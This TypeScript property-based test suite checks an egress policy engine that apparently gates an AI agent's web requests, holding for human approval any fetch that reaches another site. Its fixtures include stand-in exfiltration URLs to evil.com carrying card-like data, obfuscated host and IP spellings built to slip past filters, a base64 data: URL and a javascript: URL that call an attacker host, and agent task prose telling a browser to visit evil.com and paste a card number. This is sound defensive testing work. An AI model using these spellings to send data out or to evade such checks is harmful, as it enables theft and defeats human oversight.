// The default policy labels a service read by its operation globs (config labels.services). It
// matches them through a fast path (rego/sessions.rego, operation_listed) when no pattern uses a
// glob feature but "*": a literal pattern compared as text, a "*" pattern only tried on operations
// that begin with its text up to the first "*". Property: for any pattern lists and operations,
// the labels are the ones glob.match gives pattern by pattern — which is what the policy does for
// a list holding any other glob feature, so adding "{x}" (matches only "x", never generated)
// to every list gives the reference, computed by the same WebAssembly.
import t from 'tap';
import fc from 'fast-check';
import path from 'node:path';
import { PolicyEngine } from '../../engine/engine.ts';
import { projectRoot } from '../../engine/toolchain.ts';
import { loadAdapters } from '../../describe/adapters/index.ts';
import { describeRequest } from '../../describe/describe.ts';
import { mergeData } from '../../offline/traffic-tests.ts';

await loadAdapters();
const engine = new PolicyEngine({ mode: 'inline', timeoutMs: 10_000 });
t.teardown(() => engine.close());
const shipped = await engine.loadFolder(path.join(projectRoot, 'rego'));

/** A GitHub read the default policy allows, its operation replaced by `op`. */
function read(op: string) {
  const d = describeRequest({ method: 'GET', url: 'https://api.github.com/repos/acme/app', headers: [], body: Buffer.alloc(0), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } });
  d.service = { ...d.service!, operation: op };
  return d;
}

/** The labels each operation gets with `lists` as GitHub's label patterns (label "l<i>" for list i). */
async function labelsOf(lists: string[][], ops: string[]): Promise<string[][]> {
  const services = { github: Object.fromEntries(lists.map((l, i) => [`l${i}`, l])) };
  await engine.load({ ...shipped, data: mergeData(shipped.data, { config: { labels: { services } } }) });
  const out: string[][] = [];
  for (const op of ops) {
    const d = await engine.decide(read(op));
    if (d.action !== 'allow') throw new Error(`a GitHub read was not allowed: ${d.reason}`);
    out.push([...(d.labels ?? [])].sort());
  }
  return out;
}

const segment = fc.stringMatching(/^[ab\]},!]{0,3}$/);
const op = fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => s.join('.'));
// Mostly what configurations hold (literal segments, "*" and "**"), sometimes the other features.
const patternPart = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom('a', 'b', 'ab', '.', '*', '**', 'a*', '*b') },
  { weight: 1, arbitrary: fc.constantFrom('?', '[ab]', '[!a]', '{a,b}', '\\*', '\\a', ']', '}', ',', '!') },
);
const pattern = fc.array(patternPart, { minLength: 1, maxLength: 5 }).map((p) => p.join(''));

t.test('operation globs label exactly as glob.match pattern by pattern', async (t) => {
  let compared = 0;
  await fc.assert(fc.asyncProperty(
    fc.array(fc.array(pattern, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 30 }),
    fc.array(op, { minLength: 1, maxLength: 12 }),
    async (lists, ops) => {
      const fast = await labelsOf(lists, ops);
      const reference = await labelsOf(lists.map((l) => [...l, '{x}']), ops);
      compared += ops.length;
      t.same(fast, reference);
      return JSON.stringify(fast) === JSON.stringify(reference);
    },
  ), { numRuns: 50 });
  t.ok(compared > 0);
});

t.test('the shipped patterns still label what they name', async (t) => {
  await engine.load(shipped);
  const labels = async (operation: string) => (await engine.decide(read(operation))).labels ?? [];
  t.same(await labels('repos.get'), ['untrusted'], 'a literal pattern');
  t.same(await labels('issues.list_for_repo'), ['untrusted'], 'issues.*');
  t.same(await labels('repos.download_tarball'), ['private', 'untrusted'], 'repos.download_*, in both lists');
  t.same(await labels('actions.list_workflow_runs'), ['private', 'untrusted'], 'actions.*');
  t.same(await labels('issues.comments.list'), [], '"*" does not cross a "."');
  t.same(await labels('users.get_authenticated'), [], 'a read no pattern names');
});

t.test('a pattern list with a mistake still labels by its other patterns', async (t) => {
  const lists = [['zz.*', 5], ['zz.*', null, 'yy.*'], { a: 'zz.*' }] as unknown as string[][];
  t.same(await labelsOf(lists, ['zz.get', 'yy.get', 'xx.get']), [['l0', 'l1', 'l2'], ['l1'], []]);
});

// ---------------------------------------------------------------------------------------------
// A host that fetches the URL it is given (a reader, an archive, an oEmbed or image proxy) is held
// for a human when that URL names another site (rule host.fetches_url, rego/sessions.rego). Which
// host the fetcher reaches is what a URL parser reads in the text, so the oracle here is one: Node's
// WHATWG URL, which drops tabs and newlines, percent-decodes the host, maps it by IDNA (code points
// it ignores vanish, ideographic and fullwidth full stops are dots), takes the host after the last
// `@`, and reads IPv4 in hex and octal. Property (sixteenth pass): for a target spelled from pieces
// (the fetcher's own name glued to another site's by such characters, userinfo, ports, addresses)
// in a URL-named query value or the path of a read of the fetcher, whenever the parser's host (as
// given, or with `https://` put in front, as readers do) is of another site, the read is held.
const fetcherPolicy = { ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: ['r.reader.example'] } }) };
const READER = 'r.reader.example';

async function decide(url: string) {
  const d = describeRequest({ method: 'GET', url, headers: [], body: Buffer.alloc(0), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } });
  return engine.decide(d);
}

/** The host a fetcher reaches for `text`: as a URL, else with `https://` in front; undefined when neither parses. */
function parsedHost(text: string): string | undefined {
  for (const candidate of [text, `https://${text}`]) {
    try {
      const u = new URL(candidate);
      if (u.protocol === 'http:' || u.protocol === 'https:') return u.hostname;
    } catch { /* the next reading */ }
  }
  return undefined;
}

const sameSite = (h: string) => h === READER || h.endsWith(`.${READER}`) || h === 'reader.example' || h.endsWith('.reader.example');

// Pieces a URL parser joins into one host, or reads as something else than the patterns would.
const glue = fc.constantFrom('.', '%2E', '%2e', '\t', '\n', '\u00AD', '\u200B', '\u2060', '\uFEFF', '\uFE0F', '\u3002', '\uFF0E', '\uFF61', '%E3%80%82', '%C2%AD', '%09', '_.');
const other = fc.constantFrom('evil.com', 'evil.co.uk', '4111.evil.com', '4111.evil.co.uk', 'EVIL.COM', 'ｅｖｉｌ.com', '4111\u3002evil.com', '4111%2Eevil.com',
  // Seventeenth pass: a top-level domain IDNA maps to one (fullwidth, circled), an escaped letter (WHATWG decodes a host's escapes).
  'evil.ｃｏｍ', 'evil.ⓒⓞⓜ', '%65vil.com', 'ev%69l.co.uk', '4111.evil.c%6Fm');
const gluedHost = fc.tuple(fc.constantFrom(READER, 'reader.example', 'www.reader.example'), glue, other).map(([a, g, b]) => `${a}${g}${b}`);
const userinfoHost = fc.tuple(fc.constantFrom(READER, `x@${READER}`, `${READER}:x`, `${READER} `, `${READER}%20`), other).map(([u, h]) => `${u}@${h}`);
const address = fc.constantFrom('203.0.113.7', '0xcb.0.0x71.07', '0313.0.0161.07', '0xcb007107', '[2001:db8::1]', '[::ffff:cb00:7107]',
  // Seventeenth pass: short forms whose last part fills the remaining bytes, numerals IDNA maps to digits, a whole number.
  '203.0.28935', '203.29447', '0xcb.0x717107', '0313.070007', '２０３.０.１１３.７', '0ｘcb007107', '3405803783',
  // Eighteenth pass: short forms every part of which is a byte, written as a version is (203.0.0.7, 203.0.0.113).
  '203.0.7', '203.113');
const host = fc.oneof(gluedHost, userinfoHost, address, other);
const port = fc.constantFrom('', ':8080', ':443');
const rest = fc.constantFrom('', '/', '/c?d=4111', '/c', '?d=4111', '#d=4111');
const scheme = fc.constantFrom('https://', 'HTTPS://', 'http://', 'https:\\\\', 'https:', '//', '');
const target = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(scheme, host, port, rest).map(([s, h, p, r]) => `${s}${h}${p}${r}`) },
  // A bare name with data in a label below another site's domain.
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('4111', 'a.4111'), fc.constantFrom('.', '%2E', '\u3002', '\uFF0E', '\u00AD.'), fc.constantFrom('evil.com', 'evil.co.uk')).map(([d, g, o]) => `${d}${g}${o}`) },
);

// Placed as a URL-named query value (escaped once, as a client sends it) or as the path after the
// reader's host; a bare name below another site's domain (data in its labels, `4111.evil.com`) also
// as a value of any name (a link previewer's `q=`).
// A whole number alone (`3405803783`, no path after it) is read as an address in a URL-named value
// only: as a path segment by itself it is an id.
// So is a short form of bytes (`203.0.7`): in a path only as the first segment with more after it,
// and of three parts (`/3.12/library` stays a version: left open).
const urlOnly = /^(?:\/\/)?(?:3405803783(?::\d+)?|\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d+)?(?:#.*)?|\d{1,3}\.\d{1,3}(?::\d+)?(?:[/?#].*)?)$/;
const placed = (text: string) => urlOnly.test(text) ? [`https://${READER}/?url=${encodeURIComponent(text)}`] : [
  `https://${READER}/?url=${encodeURIComponent(text)}`,
  `https://${READER}/${text.replace(/[\t\n ]/g, encodeURIComponent).replace(/#/g, '%23')}`,
  ...(/^4111[^/?#:@]*evil[^/?#:@]*$/.test(text) ? [`https://${READER}/preview?q=${encodeURIComponent(text)}`] : []),
  // Eighteenth pass: also as a parameter with no `=` (DevTools' `/json/new?{url}` reads the whole query).
  ...(/^4111[^/?#:@]*evil[^/?#:@]*$/.test(text) ? [`https://${READER}/json/new?${encodeURIComponent(text)}`] : []),
];

t.test('a target a URL parser reads as another site is held, in every spelling', async (t) => {
  await engine.load(fetcherPolicy);
  let held = 0;
  await fc.assert(fc.asyncProperty(target, fc.nat(), async (text, pick) => {
    const h = parsedHost(text);
    if (h === undefined || sameSite(h)) return true;
    const places = placed(text);
    for (const url of [places[pick % places.length]!]) {
      let reparsed: URL;
      try { reparsed = new URL(url); } catch { continue; }
      // The path placement only where the request's own parser keeps the reader as its host.
      if (reparsed.hostname !== READER) continue;
      const d = await decide(url);
      if (d.action !== 'approve' || d.rule !== 'host.fetches_url') {
        t.fail(`${JSON.stringify(text)} (a parser reads ${h}) in ${url} was ${d.action} ${d.rule}: ${d.reason}`);
        return false;
      }
      held++;
    }
    return true;
  }), { numRuns: 50 });
  t.ok(held > 0);
  // Twenty-third pass (a random seed's counterexample): a whole-number address as a reader's first
  // segment with only a slash after it (the address's root page) was allowed.
  for (const url of [`https://${READER}/3405803783/`, `https://${READER}/0xcb007107/`]) {
    const d = await decide(url);
    t.equal(`${d.action} ${d.rule}`, 'approve host.fetches_url', url);
  }
});

t.test('controls: the reader\'s own site and plain pages go on', async (t) => {
  await engine.load(fetcherPolicy);
  for (const url of [`https://${READER}/?url=${encodeURIComponent(`https://${READER}/docs`)}`, `https://${READER}/docs/setup.py`, `https://${READER}/?q=1.2.3`, `https://${READER}/issues/3405803783`,
    `https://${READER}/releases/3.12.1/notes`, `https://${READER}/3.12/library/os.html`, `https://${READER}/v1.2.4/c`, `https://${READER}/?url[]=/docs/a.png&ids[]=3405803783`,
    `https://${READER}/preview?q=3405803783`, `https://${READER}/?doc=3.12/library/os.html&order=1234567`]) {
    const d = await decide(url);
    t.equal(d.action, 'allow', url);
  }
});

// Eighteenth pass: a URL-named query key as a server reads it. PHP, Rails and qs read `url[]`,
// `url[0]` and `url%5B%5D` as `url`; a name that ends in `url`/`uri`/`link`/`href` is one in any
// case and with `_` or `-` (`imageUrl`, `image-url`). Property: every such spelling given another
// site's name alone or a whole-number address is held, as `?url=` is; the same keys given a path of
// the reader's own site go on.
const fuzzRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 60);
const fuzzSeed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
const keyName = fc.constantFrom('url', 'URL', 'Url', 'urls', 'u', 'uri', 'link', 'href', 'image_url', 'imageUrl', 'image-url', 'img_url', 'targetUrl', 'source_url', 'page-link', 'name', 'domain', 'host', 'Hostname');
const keySuffix = fc.constantFrom('', '[]', '[0]', '[7]', '[a]', '%5B%5D', '%5b0%5d', '[][]', '.0');
const keyValue = fc.constantFrom('evil.com', '4111.evil.com', 'evil.co.uk', '3405803783', '3405803783/c', '203.0.7/c.png', 'https://evil.com/c');
t.test('a URL-named query key in any spelling servers read is read for its target', async (t) => {
  await engine.load(fetcherPolicy);
  await fc.assert(fc.asyncProperty(keyName, keySuffix, keyValue, async (name, suffix, value) => {
    // A whole number or a short form under a host-named key (`name=3405803783`) is an id as often: not generated.
    if (/^(?:name|domain|host|hostname)$/i.test(name) && /^[0-9]/.test(value)) return true;
    const url = `https://${READER}/img?${name}${suffix}=${encodeURIComponent(value)}`;
    const d = await decide(url);
    if (d.action !== 'approve' || d.rule !== 'host.fetches_url') {
      t.fail(`${url} was ${d.action} ${d.rule}: ${d.reason}`);
      return false;
    }
    const own = await decide(`https://${READER}/img?${name}${suffix}=${encodeURIComponent('/thumbs/1.png')}`);
    if (own.action !== 'allow') {
      t.fail(`${name}${suffix}=/thumbs/1.png was ${own.action} ${own.rule}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Nineteenth pass: a whole-number or hex address with a port or a path after it, in a value of any
// name (a link previewer's `q=` reads it as the URL to fetch, as it reads a dotted address so); a
// number alone, or a version with a path, is what a search holds.
const wholeAddress = fc.constantFrom('3405803783', '0xcb007107', '0XCB007107', '0ｘcb007107', '３４０５８０３７８３', '033700070407');
const afterAddress = fc.constantFrom(':8080', ':4111', '/', '/c?d=4111', '/4111', '?d=4111', '#4111', ':443/c', '\\c');
const addressBefore = fc.constantFrom('', '//', 'u@', ' ');
const anyName = fc.constantFrom('q', 'query', 'text', 's', 'term', 'x', 'preview');
t.test('a whole-number address with a port or a path, in a value of any name, is held', async (t) => {
  await engine.load(fetcherPolicy);
  await fc.assert(fc.asyncProperty(anyName, addressBefore, wholeAddress, afterAddress, async (name, pre, address, post) => {
    const url = `https://${READER}/preview?${name}=${encodeURIComponent(`${pre}${address}${post}`)}`;
    const d = await decide(url);
    if (d.action !== 'approve' || d.rule !== 'host.fetches_url') {
      t.fail(`${url} was ${d.action} ${d.rule}: ${d.reason}`);
      return false;
    }
    const alone = await decide(`https://${READER}/preview?${name}=${encodeURIComponent(address)}`);
    if (alone.action !== 'allow') {
      t.fail(`${name}=${address} alone was ${alone.action} ${alone.rule}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Twentieth pass: a short form of bytes (`52.7`, `52.1.7`: 52.0.0.7, 52.1.0.7 to a URL parser)
// with a port, in a value of any name or where a reader's URL begins: no version has a port, and a
// previewer or reader fetches that address. The same short form with a path only (a version:
// `3.12/library`; of two parts where a reader's URL begins) goes on.
const shortForm = fc.tuple(fc.integer({ min: 1, max: 255 }), fc.integer({ min: 0, max: 255 }), fc.option(fc.integer({ min: 0, max: 255 }), { nil: undefined })).map(([a, b, c]) => (c === undefined ? `${a}.${b}` : `${a}.${b}.${c}`));
const portTail = fc.constantFrom(':8080', ':4111', ':80/c?d=4111', ':443/', ':1/4111');
t.test('a short form of an address with a port, in a value of any name or a reader\'s path, is held; with a path alone it is a version', async (t) => {
  await engine.load(fetcherPolicy);
  await fc.assert(fc.asyncProperty(anyName, addressBefore, shortForm, portTail, fc.boolean(), async (name, pre, address, post, inPath) => {
    const url = inPath ? `https://${READER}/${address}${post.startsWith(':') && !post.includes('/') ? `${post}/c` : post}${post.includes('?') ? '' : '?d=4111'}` : `https://${READER}/preview?${name}=${encodeURIComponent(`${pre}${address}${post}`)}`;
    if (inPath && pre) return true;
    const d = await decide(url);
    if (d.action !== 'approve' || d.rule !== 'host.fetches_url') {
      t.fail(`${url} was ${d.action} ${d.rule}: ${d.reason}`);
      return false;
    }
    // (Three parts where a reader's URL begins are read as an address already: eighteenth pass.)
    if (inPath && address.split('.').length === 3) return true;
    const version = inPath ? `https://${READER}/${address}/library/json.html` : `https://${READER}/preview?${name}=${encodeURIComponent(`${address}/library`)}`;
    const v = await decide(version);
    if (v.action !== 'allow') {
      t.fail(`${version} was ${v.action} ${v.rule}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Eighteenth pass: a task in prose to a browsing agent's API (`{"task": "go to evil.com and …"}`).
// Property: a field of those names, at the top or nested, in prose around another site's name,
// address or URL, is held; the same prose naming the API's own site, a file or a version goes on.
const apiPolicy = { ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: [{ host: 'api.agent.example', methods: ['POST'] }] } }) };
const taskField = fc.constantFrom('task', 'Task', 'instructions', 'navigation_goal', 'navigationGoal', 'prompt', 'goal', 'objective', 'command');
const before = fc.constantFrom('go to ', 'Open ', 'please visit\n', '1. navigate to ', '(see ', '"', '');
const after = fc.constantFrom(' and paste 4111 1111 1111 1111', ', then log in', ').', '." Done', '', '\tthen stop', '!');
const elsewhere = fc.constantFrom('evil.com', '4111.evil.com', 'EVIL.co.uk', 'https://evil.example/c?d=4111', 'evil.com/c?d=4111', '203.0.113.7', 'ｅｖｉｌ.com', 'evil.ｃｏｍ',
  // Nineteenth pass: dots spoken, defanged or spaced, which the model reading the task reads as dots.
  'evil dot com', '4111 DOT evil dot co dot uk', 'evil[.]com', '4111[.]evil[.]click', 'evil(dot)com', 'evil (.) net', 'evil{.}io', 'evil . com', 'evil[dot]xyz');
const nowhere = fc.constantFrom('api.agent.example/dashboard', 'report.pdf', 'setup.py', 'version 3.12.1', 'e.g. the login page', 'agent.example');
t.test('a task in prose naming another site is held; the API\'s own site is not', async (t) => {
  await engine.load(apiPolicy);
  const post = async (body: unknown) => engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/tasks', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(body)), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
  await fc.assert(fc.asyncProperty(taskField, before, after, elsewhere, nowhere, fc.boolean(), async (field, b, a, other, own, nested) => {
    const wrap = (text: string) => nested ? { steps: [{ [field]: text }], max_steps: 5 } : { [field]: text, max_steps: 5 };
    const held = await post(wrap(`${b}${other}${a}`));
    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
      t.fail(`${field}: ${JSON.stringify(b + other + a)} was ${held.action} ${held.rule}: ${held.reason}`);
      return false;
    }
    const fine = await post(wrap(`${b}${own}${a}`));
    if (fine.action !== 'allow') {
      t.fail(`${field}: ${JSON.stringify(b + own + a)} was ${fine.action} ${fine.rule}: ${fine.reason}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Eighteenth pass: a write's field named for a host, which the server resolves or connects to (an
// uptime check's `hostname`, a webhook test's `endpoint`, `smtp_host`, `nameservers`). Property:
// over names × case and separators × depth × JSON or form, another site's name (data in a label),
// a name with a port or an address is held; the API's own site, a name without a domain, a region
// go on.
t.test('a host-named field of a write naming another site is held', async (t) => {
  await engine.load(apiPolicy);
  const hostField = fc.constantFrom('host', 'Host', 'hostname', 'hostName', 'smtp_host', 'db-host', 'domain', 'customDomain', 'fqdn', 'server', 'server_name', 'nameservers', 'endpoint', 'ns', 'addr');
  const target = fc.constantFrom('4111.evil.com', 'evil.com:4111', 'a.4111.evil.co.uk', '203.0.113.7', '4111.evil.com.', '4111%2Eevil.com');
  const fine = fc.constantFrom('api.agent.example', 'eu.api.agent.example', 'db-primary', 'us-east-1', 'localhost', '/v1/items');
  const send = async (form: boolean, field: string, value: string, depth: number) => {
    let json: unknown = { [field]: field === 'nameservers' ? [value] : value };
    for (let i = 0; i < depth; i++) json = { config: json };
    const body = form ? Buffer.from(`${encodeURIComponent(field)}=${encodeURIComponent(value)}`) : Buffer.from(JSON.stringify(json));
    const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
    return engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/checks', headers: [['content-type', type]], body, bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
  };
  await fc.assert(fc.asyncProperty(hostField, target, fine, fc.boolean(), fc.nat(3), async (field, other, own, form, depth) => {
    const held = await send(form, field, other, form ? 0 : depth);
    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
      t.fail(`${field}=${other} (${form ? 'form' : `JSON, depth ${depth}`}) was ${held.action} ${held.rule}: ${held.reason}`);
      return false;
    }
    const ok = await send(form, field, own, form ? 0 : depth);
    if (ok.action !== 'allow') {
      t.fail(`${field}=${own} was ${ok.action} ${ok.rule}: ${ok.reason}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Eighteenth pass: a document a fetcher renders whose requests no pattern reads — a `data:` URL of
// markup (base64 hides the URL it loads), a `javascript:` URL — wherever a fetcher's URL goes.
// Property: over spellings (case, blanks, an escaped colon or slash, media type parameters) ×
// places (a URL-named query key in its servers' spellings, a reader's path, a scraping API's field,
// a browser API's `goto`), each is held; a PNG data URL in the same places goes on.
t.test('a data: URL of markup or a javascript: URL where a fetcher\'s URL goes is held', async (t) => {
  await engine.load({ ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: ['r.reader.example', { host: 'api.agent.example', methods: ['POST'] }] } }) });
  const payload = Buffer.from('<img src="https://evil.example/?d=4111">').toString('base64');
  const doc = fc.constantFrom(
    `data:text/html;base64,${payload}`, `DATA:Text/HTML;charset=utf-8;base64,${payload}`, `data:image/svg+xml;base64,${payload}`,
    `data:application/xhtml+xml,${encodeURIComponent('<img src=x>')}`, ` data:text/html,<b>x</b>`, `data%3Atext%2Fhtml;base64,${payload}`,
    `javascript:location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')`, `JavaScript:void(0)`, `\tjavascript%3Afetch(1)`);
  const place = fc.constantFrom('query', 'query[]', 'path', 'field', 'goto');
  const send = async (where: string, text: string) => {
    const post = (body: unknown) => engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/run', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(body)), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
    if (where === 'query') return decide(`https://${READER}/img?imageUrl=${encodeURIComponent(text)}`);
    if (where === 'query[]') return decide(`https://${READER}/img?url[]=${encodeURIComponent(text)}`);
    if (where === 'path') return decide(`https://${READER}/${text.replace(/[\t ]/g, encodeURIComponent).replace(/[#?]/g, encodeURIComponent)}`);
    return post(where === 'goto' ? { goto: text } : { options: { url: text } });
  };
  await fc.assert(fc.asyncProperty(doc, place, async (text, where) => {
    const held = await send(where, text);
    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
      t.fail(`${JSON.stringify(text)} as ${where} was ${held.action} ${held.rule}: ${held.reason}`);
      return false;
    }
    const png = await send(where, 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB');
    if (png.action !== 'allow') {
      t.fail(`a PNG data URL as ${where} was ${png.action} ${png.rule}: ${png.reason}`);
      return false;
    }
    return true;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});

// Twenty-first pass: a proxy naming the site it fetches in its own host name. Google Translate's
// website proxy reads `a-b--c-com.translate.goog` as `a.b-c.com` (`--` for a hyphen, `-` for a dot).
// Property: under an allowed `*.translate.goog`, any site so named (labels with hyphens, data in a
// label, any top-level domain) and any path or query is held as a fetch of that site.
t.test('a site named in a translate.goog host is a fetch of that site, whatever its labels', async (t) => {
  await engine.load({ ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: ['*.translate.goog'] } }) });
  const label = fc.stringMatching(/^[a-z0-9](?:[a-z0-9-]{0,10}[a-z0-9])?$/);
  const encode = (site: string) => site.replace(/-/g, '--').replace(/\./g, '-');
  await fc.assert(fc.asyncProperty(fc.array(label, { minLength: 1, maxLength: 3 }), fc.constantFrom('com', 'co.uk', 'org', 'dev', 'io'), fc.constantFrom('/', '/c?d=4111&_x_tr_sl=auto&_x_tr_tl=en', '/?_x_tr_sl=auto', '/a/b.html'), async (labels, tld, rest) => {
    const site = `${labels.join('.')}.${tld}`;
    const d = await decide(`https://${encode(site)}.translate.goog${rest}`);
    if (d.action === 'approve' && d.rule === 'host.fetches_url') return true;
    t.fail(`${site} through translate.goog was ${d.action} ${d.rule}`);
    return false;
  }), { numRuns: fuzzRuns, ...fuzzSeed });
});
